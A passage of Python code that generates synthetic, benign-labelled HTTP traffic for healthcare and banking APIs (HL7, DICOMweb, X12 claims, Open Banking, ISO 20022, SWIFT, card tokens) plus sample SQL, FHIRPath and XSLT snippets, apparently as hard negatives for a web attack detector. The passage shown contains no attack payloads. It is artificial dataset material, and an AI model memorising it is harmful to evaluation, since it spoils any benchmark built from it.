    return [("Host", r.choice(HL7_HOSTS)), ("User-Agent", r.choice(["Mirth Connect/4.4.2", "Iguana/6.1.5", "Rhapsody/7.2", "Apache-HttpClient/4.5.14 (Java/11.0.21)"])),
            ("Content-Type", ctype or r.choice(["x-application/hl7-v2+er7; charset=utf-8", "application/hl7-v2", "text/plain; charset=ISO-8859-1"])),
            ("Accept", "*/*"), ("Authorization", "Basic " + base64.b64encode(f"mirth-{r.randint(1, 9)}:{b64u(r.randbytes(9))}".encode()).decode()),
            ("X-Correlation-ID", uid(r))]


@gen
def b_hl7(r):
    for i in range(28):
        m = hl7_msg(r)
        if r.random() < .25:
            add("benign", None, "hl7v2", "POST", "/api/v1/hl7/inbound",
                hl7_headers(r, "application/json"), jdump({"source": "EPIC", "encoding": "ER7", "message": m}, r))
        else:
            add("benign", None, "hl7v2", "POST", r.choice(["/hl7", "/hl7/v2/messages", "/api/channels/adt-in/messages"]),
                hl7_headers(r), m)


DICOM_UAS = ["dcm4che-dcmqrscp/5.31.1", "OHIF-Viewer/3.7.0 Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4)", "python-requests/2.31.0 dicomweb-client/0.59.1", "Orthanc/1.12.3"]


def uid_dicom(r):
    return "1.2.840.113619.2." + ".".join(str(r.randint(1, 99999)) for _ in range(r.randint(4, 7)))


@gen
def b_dicomweb(r):
    host = "pacs.radiology.svc.cluster.local"
    for i in range(18):
        g, f = person(r)
        pairs = r.choice([
            [("PatientName", f"{f.upper()}^{g[0]}*"), ("StudyDate", "20240101-20240630"), ("fuzzymatching", "true")],
            [("00100020", f"MRN{r.randint(10 ** 5, 10 ** 6)}"), ("includefield", "00081030,00080060"), ("limit", "25"), ("offset", "0")],
            [("ModalitiesInStudy", "CT"), ("StudyDescription", "*CHEST W/O CONTRAST*"), ("includefield", "all")],
            [("AccessionNumber", f"ACC-{r.randint(1000, 9999)}/24"), ("ReferringPhysicianName", f"{f}^{g}")],
            [("StudyInstanceUID", uid_dicom(r)), ("00080061", "MR\\CT")],
        ])
        path = r.choice(["/dicomweb/studies", f"/dicomweb/studies/{uid_dicom(r)}/series", "/dicom-web/instances"])
        add("benign", None, "dicomweb", "GET", uri(path, pairs, r.choice(["std", "raw"])),
            [("Host", host), ("User-Agent", r.choice(DICOM_UAS)), ("Accept", "application/dicom+json"),
             ("Authorization", "Bearer " + jwt(r, iss="https://keycloak.radiology.local/realms/pacs")), ("X-Request-Id", uid(r))])
    for i in range(8):
        st, se, ins = uid_dicom(r), uid_dicom(r), uid_dicom(r)
        add("benign", None, "dicomweb", "GET",
            r.choice([f"/dicomweb/studies/{st}/series/{se}/instances/{ins}/frames/1,2,3",
                      f"/dicomweb/studies/{st}/series/{se}/instances/{ins}/rendered?viewport=512,512&window=40,400,linear",
                      f"/dicomweb/studies/{st}/metadata", f"/wado?requestType=WADO&studyUID={st}&seriesUID={se}&objectUID={ins}&contentType=image%2Fjpeg"]),
            [("Host", host), ("User-Agent", r.choice(DICOM_UAS)),
             ("Accept", r.choice(['multipart/related; type="application/octet-stream"; transfer-syntax=*', "image/jpeg", "application/dicom+json"])),
             ("Authorization", "Bearer " + jwt(r))])
    for i in range(10):
        bnd = "DICOMwebBoundary" + r.randbytes(8).hex()
        st = uid_dicom(r)
        g, f = person(r)
        meta = [{"00080020": {"vr": "DA", "Value": ["20240611"]}, "00080060": {"vr": "CS", "Value": [r.choice(["CT", "MR", "US", "DX"])]},
                 "00100010": {"vr": "PN", "Value": [{"Alphabetic": f"{f}^{g}"}]}, "0020000D": {"vr": "UI", "Value": [st]},
                 "00081030": {"vr": "LO", "Value": [r.choice(["CT ABD/PELVIS W/ CONTRAST", "MRI L-SPINE (w/o)", "XR CHEST 2 VIEWS"])]},
                 "7FE00010": {"vr": "OB", "BulkDataURI": "bulk/pixeldata-1"}}]
        body = (f"--{bnd}\r\nContent-Type: application/dicom+json; charset=utf-8\r\n\r\n{json.dumps(meta, ensure_ascii=False)}\r\n"
                f"--{bnd}\r\nContent-Type: application/octet-stream\r\nContent-Location: bulk/pixeldata-1\r\n\r\n"
                f"{base64.b64encode(r.randbytes(48)).decode()}\r\n--{bnd}--\r\n")
        add("benign", None, "dicomweb", "POST", f"/dicomweb/studies/{st}" if r.random() < .5 else "/dicomweb/studies",
            [("Host", host), ("User-Agent", r.choice(DICOM_UAS)), ("Accept", "application/dicom+json"),
             ("Content-Type", f'multipart/related; type="application/dicom+json"; boundary={bnd}'),
             ("Authorization", "Bearer " + jwt(r))], body)


def x12_837(r, nm1_name=None, clm_note=None):
    ctrl = f"{r.randint(1, 999999999):09d}"
    sub = f"{'SUBMITTER' + str(r.randint(1, 99)):<15}"
    g, f = person(r)
    name = nm1_name or f.upper().replace("Ü", "U")
    segs = [f"ISA*00*          *00*          *ZZ*{sub}*ZZ*{'BLUEPEAK':<15}*240611*1253*^*00501*{ctrl}*0*P*:",
            f"GS*HC*{sub.strip()}*BLUEPEAK*20240611*1253*{int(ctrl)}*X*005010X222A1", "ST*837*0001*005010X222A1",
            f"BHT*0019*00*{r.randint(10 ** 5, 10 ** 6)}*20240611*1253*CH",
            f"NM1*41*2*O'NEIL & SONS FAMILY PRACTICE*****46*{r.randint(10 ** 8, 10 ** 9)}", "PER*IC*BILLING DEPT*TE*5550142*EX*3",
            f"NM1*IL*1*{name}*{g.upper()}****MI*W{r.randint(10 ** 8, 10 ** 9)}",
            f"N3*{r.choice(STREETS).upper()}", "N4*BOSTON*MA*02115", "DMG*D8*19710704*F",
            f"CLM*{r.randint(10 ** 5, 10 ** 6)}*{r.randint(50, 900)}.00***11:B:1*Y*A*Y*Y",
            f"HI*ABK:E119*ABF:I10", f"SV1*HC:99214:25*{r.randint(80, 300)}.00*UN*1***1:2", "DTP*472*D8*20240607"]
    if clm_note:
        segs.insert(11, f"NTE*ADD*{clm_note}")
    segs += [f"SE*{len(segs) - 1}*0001", f"GE*1*{int(ctrl)}", f"IEA*1*{ctrl}"]
    return "~".join(segs) + "~"


@gen
def b_x12(r):
    for i in range(26):
        k = r.random()
        if k < .6:
            body = x12_837(r, clm_note=r.choice([None, "PT SEEN 2X/WK -- FOLLOW UP 30 DAYS", "REF: AUTH #A/B-7781; 50% COINS"]))
        else:
            g, f = person(r)
            body = "~".join([f"ISA*00*          *00*          *ZZ*CLINIC01       *ZZ*PAYER99        *240611*0930*^*00501*{r.randint(1, 10 ** 8):09d}*0*P*:",
                             "GS*HS*CLINIC01*PAYER99*20240611*0930*1*X*005010X279A1", "ST*270*0001*005010X279A1",
                             "BHT*0022*13*10001234*20240611*0930", "HL*1**20*1", "NM1*PR*2*BLUE PEAK HEALTH*****PI*99",
                             "HL*2*1*21*1", f"NM1*1P*1*{r.choice(FAMILY).upper()}*{r.choice(GIVEN).upper()}****XX*1234567893",
                             "HL*3*2*22*0", f"NM1*IL*1*{f.upper()}*{g.upper()}****MI*W{r.randint(10 ** 8, 10 ** 9)}",
                             "DMG*D8*19850212", "EQ*30", "SE*12*0001", "GE*1*1", "IEA*1*000000001"]) + "~"
        ct = r.choice(["application/EDI-X12", "application/edi-x12; charset=us-ascii", "text/plain"])
        if r.random() < .25:
            ct = "application/json"
            body = jdump({"tradingPartnerId": "CLINIC01", "transactionType": "837P" if body.count("837") else "270", "x12": body}, r)
        add("benign", None, "x12-claims", "POST", r.choice(["/edi/v1/x12/submit", "/api/claims/x12", "/core/rt/x12"]),
            [("Host", r.choice(INS_HOSTS)), ("User-Agent", r.choice(["Availity-EDI/2.3", "python-requests/2.31.0", "Java-http-client/17.0.9"])),
             ("Content-Type", ct), ("Accept", "application/json"), ("Authorization", "Bearer " + jwt(r, iss="https://login.bluepeak-health.com")),
             ("X-Request-Id", uid(r)), ("Idempotency-Key", uid(r))], body)


# ---------------------------------------------------------------- benign: banking

IBANS = ["GB33BUKB20201555555555", "DE89370400440532013000", "FR1420041010050500013M02606",
         "IE29AIBK93115212345678", "NL91ABNA0417164300", "ES9121000418450200051332", "PL61109010140000071219812874"]


def amount(r):
    return f"{r.choice([r.randint(1, 99), r.randint(100, 2500), r.randint(2500, 250000)])}.{r.randint(0, 99):02d}"


@gen
def b_openbanking_payments(r):
    for i in range(30):
        g, f = person(r)
        init = {"InstructionIdentification": f"ACME{r.randint(10 ** 5, 10 ** 6)}", "EndToEndIdentification": f"E2E-{r.randint(10 ** 7, 10 ** 8)}",
                "InstructedAmount": {"Amount": amount(r), "Currency": r.choice(["GBP", "EUR"])},
                "CreditorAccount": {"SchemeName": "UK.OBIE.SortCodeAccountNumber", "Identification": f"{r.randint(10 ** 13, 10 ** 14)}",
                                    "Name": r.choice([f"{g} {f}", "O'Neil & Sons Ltd", "Café Zoë S.à r.l.", "Smith, Jones & Partners LLP"])},
                "RemittanceInformation": {"Reference": r.choice(REMIT)[:18], "Unstructured": r.choice(REMIT)}}
        kind = r.random()
        if kind < .45:
            body = {"Data": {"Initiation": init}, "Risk": {"PaymentContextCode": r.choice(["EcommerceGoods", "BillPayment", "PartyToParty"]),
                                                          "MerchantCategoryCode": "5967", "DeliveryAddress": {"AddressLine": [r.choice(STREETS)],
                                                                                                              "TownName": r.choice(CITIES)[0], "Country": "GB"}}}
            path = "/open-banking/v3.1/pisp/domestic-payment-consents"
        elif kind < .85:
            body = {"Data": {"ConsentId": f"sdp-{r.randint(1, 9)}-{uid(r)[:12]}", "Initiation": init}, "Risk": {}}
            path = "/open-banking/v3.1/pisp/domestic-payments"
        else:
            init["RequestedExecutionDateTime"] = "2024-07-01T06:00:00+00:00"
            body = {"Data": {"Permission": "Create", "Initiation": init}, "Risk": {}}
            path = "/open-banking/v3.1/pisp/domestic-scheduled-payment-consents"
        add("benign", None, "ob-payment", "POST", path,
            bank_headers(r, ctype="application/json", idem=True, jws=r.random() < .8), jdump(body, r))
    for i in range(8):
        add("benign", None, "ob-payment", "GET",
            r.choice([f"/open-banking/v3.1/pisp/domestic-payments/{uid(r)}/payment-details",
                      f"/open-banking/v3.1/pisp/domestic-payment-consents/sdp-1-{uid(r)[:12]}/funds-confirmation"]),
            bank_headers(r))


@gen
def b_openbanking_accounts(r):
    for i in range(14):
        body = {"Data": {"Permissions": r.sample(["ReadAccountsDetail", "ReadBalances", "ReadTransactionsDetail", "ReadTransactionsCredits",
                                                  "ReadTransactionsDebits", "ReadBeneficiariesDetail", "ReadStandingOrdersDetail"], r.randint(2, 5)),
                         "ExpirationDateTime": "2024-12-31T23:59:59+00:00", "TransactionFromDateTime": "2024-01-01T00:00:00+00:00",
                         "TransactionToDateTime": "2024-06-30T23:59:59+00:00"}, "Risk": {}}
        add("benign", None, "ob-accounts", "POST", "/open-banking/v3.1/aisp/account-access-consents",
            bank_headers(r, ctype="application/json; charset=utf-8", idem=r.random() < .3), jdump(body, r))
    for i in range(16):
        acc = str(r.randint(10 ** 5, 10 ** 6))
        path = r.choice([f"/open-banking/v3.1/aisp/accounts/{acc}/transactions",
                         f"/open-banking/v3.1/aisp/accounts/{acc}/balances", "/open-banking/v3.1/aisp/accounts",
                         f"/xs2a/v1/accounts/{uid(r)}/transactions"])
        pairs = [("fromBookingDateTime", "2024-05-01T00:00:00"), ("toBookingDateTime", "2024-05-31T23:59:59")] if "transactions" in path else []
        if "xs2a" in path:
            pairs = [("dateFrom", "2024-05-01"), ("bookingStatus", "both"), ("withBalance", "true")]
        h = bank_headers(r)
        if "xs2a" in path:
            h += [("Consent-ID", uid(r)), ("PSU-IP-Address", "192.0.2.44"), ("X-Request-ID", uid(r))]
        add("benign", None, "ob-accounts", "GET", uri(path, pairs, "std"), h)


def iso20022_pain001(r, cdtr_name=None, ustrd=None):
    g, f = person(r)
    nm = cdtr_name or r.choice([f"{g} {f}", "O'Neil &amp; Sons Ltd", "Müller GmbH &amp; Co. KG", "Café Zoë"])
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09" '
            f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">\n <CstmrCdtTrfInitn>\n  <GrpHdr><MsgId>MSG-{r.randint(10 ** 6, 10 ** 7)}</MsgId>'
            f'<CreDtTm>2024-06-11T10:22:31</CreDtTm><NbOfTxs>1</NbOfTxs><InitgPty><Nm>Northwind Health Payroll</Nm></InitgPty></GrpHdr>\n'
            f'  <PmtInf><PmtInfId>PI-{r.randint(1000, 9999)}</PmtInfId><PmtMtd>TRF</PmtMtd><ReqdExctnDt><Dt>2024-06-12</Dt></ReqdExctnDt>'
            f'<Dbtr><Nm>Northwind Health</Nm></Dbtr><DbtrAcct><Id><IBAN>{r.choice(IBANS)}</IBAN></Id></DbtrAcct>'
            f'<DbtrAgt><FinInstnId><BICFI>BUKBGB22</BICFI></FinInstnId></DbtrAgt>\n   <CdtTrfTxInf><PmtId><EndToEndId>E2E{r.randint(10 ** 6, 10 ** 7)}</EndToEndId></PmtId>'
            f'<Amt><InstdAmt Ccy="EUR">{amount(r)}</InstdAmt></Amt><Cdtr><Nm>{nm}</Nm><PstlAdr><StrtNm>{r.choice(STREETS).replace("&", "&amp;")}</StrtNm>'
            f'<Ctry>DE</Ctry></PstlAdr></Cdtr><CdtrAcct><Id><IBAN>{r.choice(IBANS)}</IBAN></Id></CdtrAcct>'
            f'<RmtInf><Ustrd>{ustrd or r.choice(REMIT).replace("&", "&amp;").replace("<", "&lt;")}</Ustrd></RmtInf></CdtTrfTxInf>\n  </PmtInf>\n </CstmrCdtTrfInitn>\n</Document>\n')


def iso20022_pacs008(r):
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<AppHdr xmlns="urn:iso:std:iso:20022:tech:xsd:head.001.001.02"><Fr><FIId><FinInstnId><BICFI>DEUTDEFF</BICFI>'
            f'</FinInstnId></FIId></Fr><To><FIId><FinInstnId><BICFI>BUKBGB22</BICFI></FinInstnId></FIId></To><BizMsgIdr>B{r.randint(10 ** 8, 10 ** 9)}</BizMsgIdr>'
            f'<MsgDefIdr>pacs.008.001.08</MsgDefIdr><CreDt>2024-06-11T10:22:31Z</CreDt></AppHdr>\n'
            f'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"><FIToFICstmrCdtTrf><GrpHdr><MsgId>{r.randint(10 ** 8, 10 ** 9)}</MsgId>'
            f'<NbOfTxs>1</NbOfTxs><SttlmInf><SttlmMtd>INDA</SttlmMtd></SttlmInf></GrpHdr><CdtTrfTxInf><PmtId><InstrId>X/{r.randint(100, 999)}</InstrId>'
            f'<EndToEndId>NOTPROVIDED</EndToEndId><UETR>{uid(r)}</UETR></PmtId><IntrBkSttlmAmt Ccy="GBP">{amount(r)}</IntrBkSttlmAmt>'
            f'<ChrgBr>SHAR</ChrgBr><Dbtr><Nm>{r.choice(FAMILY).replace("&", "&amp;")} Holdings</Nm></Dbtr><Cdtr><Nm>Dvořák &amp; Peña LLP</Nm></Cdtr>'
            f'<RmtInf><Ustrd>{r.choice(REMIT).replace("&", "&amp;").replace("<", "&lt;")}</Ustrd></RmtInf></CdtTrfTxInf></FIToFICstmrCdtTrf></Document>\n')


@gen
def b_iso20022(r):
    for i in range(22):
        pacs = r.random() < .4
        body = iso20022_pacs008(r) if pacs else iso20022_pain001(r)
        add("benign", None, "iso20022", "POST", "/payments/v2/iso20022/" + ("pacs.008" if pacs else "pain.001"),
            bank_headers(r, host="payments-api.ledger.svc.cluster.local:8443", ctype=r.choice(["application/xml", "application/xml; charset=UTF-8", "text/xml"]),
                         accept="application/xml", idem=True), body)


def mt103(r, f70=None, f59=None):
    g, f = person(r)
    return ("{1:F01BUKBGB22AXXX" + str(r.randint(10 ** 9, 10 ** 10)) + "}{2:I103DEUTDEFFXXXXN}{3:{108:MT103 " + str(r.randint(100, 999)) +
            "}{121:" + uid(r) + "}}{4:\r\n:20:REF" + str(r.randint(10 ** 6, 10 ** 7)) + "\r\n:23B:CRED\r\n:32A:240612EUR" + amount(r).replace(".", ",") +
            "\r\n:50K:/" + r.choice(IBANS) + "\r\nNORTHWIND HEALTH LTD\r\n1 MAIN ST\r\n:59:/" + r.choice(IBANS) + "\r\n" +
            (f59 or f"{f.upper()} {g.upper()}\r\nHAUPTSTRASSE 5-7\r\nDE/MUENCHEN") + "\r\n:70:" +
            (f70 or r.choice(["/INV/2024-117 50PCT DEPOSIT", "RFB/ACME-PO 4471 NET 30", "/ROC/O'NEIL AND SONS//RENT JUNE", "INV 123 REF A/B-7"])) +
            "\r\n:71A:SHA\r\n-}{5:{CHK:" + r.randbytes(6).hex().upper() + "}}")


@gen
def b_swift(r):
    for i in range(14):
        body = mt103(r)
        if r.random() < .4:
            add("benign", None, "swift-mt", "POST", "/swift/v1/messages",
                bank_headers(r, ctype="application/json", idem=True), jdump({"format": "MT103", "direction": "outbound", "fin": body}, r))
        else:
            add("benign", None, "swift-mt", "POST", "/swift/v1/fin/mt103",
                bank_headers(r, ctype="text/plain; charset=us-ascii", idem=True), body)


@gen
def b_card_tokens(r):
    for i in range(16):
        pan = r.choice(["4111111111111111", "5555555555554444", "378282246310005", "4000056655665556"])
        g, f = person(r)
        body = {"card": {"number": pan, "exp_month": r.randint(1, 12), "exp_year": 2027, "cvc": str(r.randint(100, 999)),
                         "name": f"{g} {f}", "address_line1": r.choice(STREETS), "address_zip": r.choice(CITIES)[1]},
                "metadata": {"customer_ref": r.choice(REMIT)}}
        if r.random() < .5:
            add("benign", None, "card-token", "POST", "/v1/tokens",
                bank_headers(r, host="vault.pci.svc.cluster.local:8443", ctype="application/json", idem=True), jdump(body, r))
        else:
            add("benign", None, "card-token", "POST", "/v1/tokens",
                bank_headers(r, host="api.fintechpay.io", ctype="application/x-www-form-urlencoded", idem=True),
                qs([("card[number]", pan), ("card[exp_month]", "09"), ("card[exp_year]", "2027"), ("card[cvc]", "314"),
                    ("card[name]", f"{g} {f}"), ("metadata[note]", r.choice(REMIT))], "plus"))
    for i in range(6):
        add("benign", None, "card-token", "GET", f"/v1/tokens/tok_{b64u(r.randbytes(12))}?expand[]=card&expand[]=card.billing_details",
            bank_headers(r, host="api.fintechpay.io"))


# ---------------------------------------------------------------- benign: KYC, insurance, ledger, exports, webhooks


def multipart(r, parts):
    """parts: list of (name, filename|None, content_type|None, text)."""
    bnd = r.choice(["----WebKitFormBoundary", "------------------------", "----formdata-undici-0"]) + b64u(r.randbytes(12)).replace("-", "x").replace("_", "y")
    out = []
    for name, fn, ct, text in parts:
        cd = f'Content-Disposition: form-data; name="{name}"' + (f'; filename="{fn}"' if fn else "")
        out.append(f"--{bnd}\r\n{cd}\r\n" + (f"Content-Type: {ct}\r\n" if ct else "") + f"\r\n{text}\r\n")
    return f"multipart/form-data; boundary={bnd}", "".join(out) + f"--{bnd}--\r\n"


@gen
def b_kyc(r):
    for i in range(9):
        g, f = person(r)
        ct, body = multipart(r, [
            ("applicant", None, "application/json", jdump({"firstName": g, "lastName": f, "dob": "1988-02-29",
                                                            "address": {"line1": r.choice(STREETS), "city": r.choice(CITIES)[0]},
                                                            "occupation": r.choice(["Nurse (RN) & midwife", "Self-employed - café owner", "Software eng."])})),
            ("documentType", None, None, r.choice(["PASSPORT", "DRIVING_LICENCE", "UTILITY_BILL"])),
            ("file", r.choice([f"passport_{f}.jpg", "Utility bill (May '24).pdf", "scan 2024-06-11 #2.png"]),
             r.choice(["image/jpeg", "application/pdf", "image/png"]), base64.b64encode(r.randbytes(90)).decode())])
        add("benign", None, "kyc-upload", "POST", r.choice(["/kyc/v2/applicants/" + uid(r) + "/documents", "/onboarding/api/v1/identity/documents"]),
            bank_headers(r, ctype=ct, idem=r.random() < .5), body)


@gen
def b_insurance(r):
    for i in range(9):
        g, f = person(r)
        body = {"product": r.choice(["HEALTH_PLUS", "TERM_LIFE_20", "TRAVEL_ANNUAL"]), "applicant": {"name": f"{g} {f}", "dob": "1979-11-03",
                "smoker": False, "bmi": round(r.uniform(18, 34), 1), "postcode": r.choice(CITIES)[1]},
                "options": {"plan": r.choice(["select plan B", "Gold (80/20)", "Bronze - HSA eligible"]), "deductible": r.choice([500, 1000, 2500]),
                            "coinsurance": "20%", "riders": ["dental & vision"]},
                "medicalHistory": r.choice(["None", "Asthma (mild) -- inhaler PRN", "BP 130/85; cholesterol <200 mg/dL", "Knee op '19; no issues since"])}
        add("benign", None, "insurance-quote", "POST", "/quotes/v1/quotes",
            [("Host", r.choice(INS_HOSTS[:2])), ("User-Agent", r.choice(BANK_UAS)), ("Content-Type", "application/json"),
             ("Accept", "application/json"), ("Authorization", "Bearer " + jwt(r, iss="https://id.harborinsure.com")),
             ("X-Request-Id", uid(r)), ("Idempotency-Key", uid(r))], jdump(body, r))


@gen
def b_ledger(r):
    for i in range(9):
        amt = amount(r)
        body = {"journal": f"JE-2024-{r.randint(1000, 9999)}", "postedAt": "2024-06-11T17:00:00Z",
                "memo": r.choice(["Accrual reversal (May) -- see JE-2024-0412", "FX reval GBP/EUR @ 1.1834", "Write-off: inv #123; ref: A/B-7",
                                  "Claims payable: 837 batch 4471 (50%)", "Reclass 6100->6150 per CFO"]),
                "lines": [{"account": "1000-Cash", "debit": amt, "credit": "0.00"},
                          {"account": r.choice(["2100-AP", "4000-Revenue:Premiums", "6150-Bank fees & charges"]), "debit": "0.00", "credit": amt}],
                "tags": ["month-end", "auto"]}
        add("benign", None, "ledger", "POST", "/ledger/v1/journal-entries",
            bank_headers(r, host="ledger.finance.svc.cluster.local:8080", ctype="application/json", idem=True), jdump(body, r))
    for i in range(5):
        add("benign", None, "ledger", "GET",
            uri("/ledger/v1/entries", [("account", r.choice(["1000-Cash", "4000-Revenue:Premiums", "2100-AP"])),
                                       ("from", "2024-06-01"), ("to", "2024-06-30"), ("amount[gte]", "1000"),
                                       ("sort", "-postedAt,journal"), ("memo", r.choice(["reval", "inv #123", "50%"]))], r.choice(["std", "plus"])),
            bank_headers(r, host="ledger.finance.svc.cluster.local:8080"))


@gen
def b_statements(r):
    for i in range(6):
        add("benign", None, "csv-export", "GET",
            uri(f"/api/v1/accounts/{r.randint(10 ** 5, 10 ** 6)}/statements/export",
                [("format", r.choice(["csv", "ofx", "pdf", "camt.053"])), ("from", "2024-01-01"), ("to", "2024-03-31"),
                 ("delimiter", r.choice([",", ";", "|", "\t"])), ("filename", r.choice(["statement Q1 2024.csv", "O'Neil_Jan-Mar.csv"]))], r.choice(["std", "plus"])),
            bank_headers(r, accept="text/csv"))
    for i in range(6):
        rows = ["Date,Description,Reference,Amount,Balance"]
        for j in range(r.randint(3, 7)):
            rows.append(f'2024-06-{r.randint(1, 28):02d},"{r.choice(REMIT).replace(chr(34), chr(34) * 2)}",{r.randint(10 ** 5, 10 ** 6)},'
                        f'{r.choice(["-", ""])}{amount(r)},{amount(r)}')
        add("benign", None, "csv-export", "POST", "/api/v1/reconciliation/imports",
            bank_headers(r, ctype="text/csv; charset=utf-8", idem=True), "\r\n".join(rows) + "\r\n")


@gen
def b_webhooks(r):
    for i in range(6):
        sub = {"resourceType": "Subscription", "status": "requested", "reason": "Notify care-coordination app of new lab results",
               "criteria": r.choice(["Observation?category=laboratory&patient=Patient/4471", "Encounter?status=finished&_lastUpdated=gt2024-06-01"]),
               "channel": {"type": "rest-hook", "endpoint": r.choice(["https://care-app.northwind-health.org/fhir/notify",
                                                                       "https://hooks.partner-lab.com/v1/fhir?tenant=nwh&sig=1"]),
                           "payload": "application/fhir+json", "header": ["Authorization: Bearer " + b64u(r.randbytes(24))]}}
        add("benign", None, "webhook", "POST", "/fhir/r4/Subscription", fhir_headers(r, ctype="application/fhir+json"), jdump(sub, r))
    for i in range(5):
        body = {"url": r.choice(["https://erp.acme-corp.com/webhooks/payments", "https://api.partner.co.uk/ob/events?src=northbank"]),
                "events": ["payment.settled", "payment.failed", "consent.revoked"], "secret": b64u(r.randbytes(24))}
        add("benign", None, "webhook", "POST", "/v1/webhook-endpoints", bank_headers(r, ctype="application/json", idem=True), jdump(body, r))
    for i in range(5):
        body = {"redirect_uris": ["https://tpp.example-fintech.com/callback"], "token_endpoint_auth_method": "private_key_jwt",
                "grant_types": ["authorization_code", "refresh_token", "client_credentials"], "response_types": ["code id_token"],
                "software_id": b64u(r.randbytes(9)), "scope": "openid accounts payments",
                "jwks_uri": r.choice(["https://keystore.openbankingtest.org.uk/0015800001041REAAY/" + b64u(r.randbytes(9)) + ".jwks",
                                      "https://tpp.example-fintech.com/.well-known/jwks.json"]),
                "id_token_signed_response_alg": "PS256", "request_object_signing_alg": "PS256", "tls_client_certificate_bound_access_tokens": True}
        add("benign", None, "webhook", "POST", "/register", bank_headers(r, ctype="application/json"), jdump(body, r))


@gen
def b_misc_ops(r):
    for i in range(6):
        g, f = person(r)
        pairs = r.choice([[("q", f), ("role", "physician")], [("name", f"{g} {f}"), ("specialty", "Cardiology & Vascular")],
                          [("filter", f"sn={f}"), ("attrs", "cn,mail,telephoneNumber")], [("npi", "1234567893")]])
        add("benign", None, "directory", "GET", uri("/directory/v1/practitioners", pairs, r.choice(["std", "plus"])), fhir_headers(r, accept="application/json"))
    for i in range(6):
        add("benign", None, "report-export", "POST", "/reports/v1/exports",
            bank_headers(r, host="reports.analytics.svc.cluster.local", ctype="application/json"),
            jdump({"report": r.choice(["claims-aging", "denials-by-payer", "daily-settlement"]), "format": r.choice(["pdf", "xlsx", "csv"]),
                   "filename": r.choice(["Claims aging (Q2) - final.pdf", "denials_2024-06.xlsx", "settlement 11-06-2024.csv"]),
                   "params": {"payer": "Blue Peak & Co.", "minAge": 30, "title": "Aging > 30 days"}}, r))
    for i in range(6):
        tpl = r.choice(["Hi {{patient.firstName}}, your appointment with Dr. {{practitioner.lastName}} is on {{appt.date}} at {{appt.time}}. Reply C to confirm.",
                        "Dear {{ name }}, payment of {{ amount | currency }} ref {{ reference }} was received. Thanks!",
                        "Reminder: take ${dose} of ${medication} -- ${schedule}."])
        add("benign", None, "notification", "POST", "/notifications/v1/templates",
            fhir_headers(r, host="notify.patient-engagement.svc.cluster.local", ctype="application/json", accept="application/json"),
            jdump({"name": f"appt-reminder-{r.randint(1, 9)}", "channel": r.choice(["sms", "email"]), "locale": r.choice(["en-GB", "fr-CA", "es-US"]),
                   "body": tpl}, r))
    for p in ["/healthz", "/readyz", "/metrics", "/fhir/r4/metadata?_summary=true"]:
        add("benign", None, "probe", "GET", p, [("Host", "10.42.3.17:8080"), ("User-Agent", r.choice(["kube-probe/1.29", "Prometheus/2.51.0"])),
                                                 ("Accept", "*/*"), ("Connection", "close")])


# ---------------------------------------------------------------- dev-content (integration engineers)

FHIRPATH = ["Patient.name.where(use = 'official').select(given.first() + ' ' + family)",
            "Observation.value.ofType(Quantity).where(value > 7.0 and code = '%')",
            "Bundle.entry.resource.ofType(Patient).identifier.where(system = 'urn:oid:2.16.840.1.113883.2.1.4.1').value",
            "%resource.telecom.where(system='phone').exists() or %resource.telecom.where(system='email').exists()",
            "(Observation.effective as dateTime) >= @2024-01-01 and Observation.status != 'entered-in-error'",
            "MedicationRequest.dosageInstruction.timing.repeat.select(frequency.toString() + '/' + period.toString() + periodUnit)",
            "iif(Patient.deceased.exists(), 'deceased', 'alive') | Patient.name.family.upper()"]
JSONATA = ['$map(entry.resource[resourceType="Observation"], function($o) { {"code": $o.code.coding[0].code, "v": $o.valueQuantity.value} })',
           'Account.Order.Product.(Price * Quantity) ~> $sum()',
           '$filter(Data.Transaction, function($t){ $t.Amount.Amount > 100 and $t.CreditDebitIndicator = "Debit" }).{"ref": TransactionReference, "amt": $number(Amount.Amount)}',
           '{"name": $join([name[0].given, name[0].family], " "), "dob": $substringBefore(birthDate, "T")}',
           '$replace(RemittanceInformation.Unstructured, /[^A-Za-z0-9 \\/\\-?:().,\'+]/, "")']
XSLT = ['<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:p="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09">'
        '<xsl:output method="text"/><xsl:template match="/"><xsl:for-each select="//p:CdtTrfTxInf"><xsl:value-of select="p:PmtId/p:EndToEndId"/>'
        '<xsl:text>;</xsl:text><xsl:value-of select="p:Amt/p:InstdAmt"/><xsl:text>&#10;</xsl:text></xsl:for-each></xsl:template></xsl:stylesheet>',
        '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:cda="urn:hl7-org:v3">'
        '<xsl:template match="cda:ClinicalDocument"><Patient xmlns="http://hl7.org/fhir"><name><family value="{cda:recordTarget//cda:family}"/></name>'
        '<xsl:if test="count(cda:component//cda:observation) &gt; 0"><xsl:comment>has observations</xsl:comment></xsl:if></Patient></xsl:template></xsl:stylesheet>']
SQLS = ["SELECT payer_id, COUNT(*) AS denials, SUM(billed_amt) FROM claims WHERE status = 'DENIED' AND service_date >= '2024-01-01' GROUP BY payer_id ORDER BY 2 DESC LIMIT 20",
        "SELECT p.mrn, p.family_name, o.loinc, o.value FROM patients p JOIN observations o ON o.patient_id = p.id WHERE o.loinc IN ('4548-4','2345-7') AND o.value > 7.0",
        "WITH aging AS (SELECT claim_id, CURRENT_DATE - submitted_at::date AS days FROM claims WHERE paid_at IS NULL) SELECT CASE WHEN days > 90 THEN '90+' WHEN days > 30 THEN '31-90' ELSE '0-30' END AS bucket, COUNT(*) FROM aging GROUP BY 1",
        "select account_id, date_trunc('month', posted_at) m, sum(amount) from ledger_lines where memo ilike '%reval%' group by 1,2 -- monthly FX reval",
        "SELECT * FROM payments WHERE remittance LIKE 'INV-2024/%' AND currency = 'EUR' UNION ALL SELECT * FROM payments_archive WHERE remittance LIKE 'INV-2024/%'",
        "DELETE FROM staging_eligibility WHERE batch_id = :batch AND loaded_at < now() - interval '7 days'"]
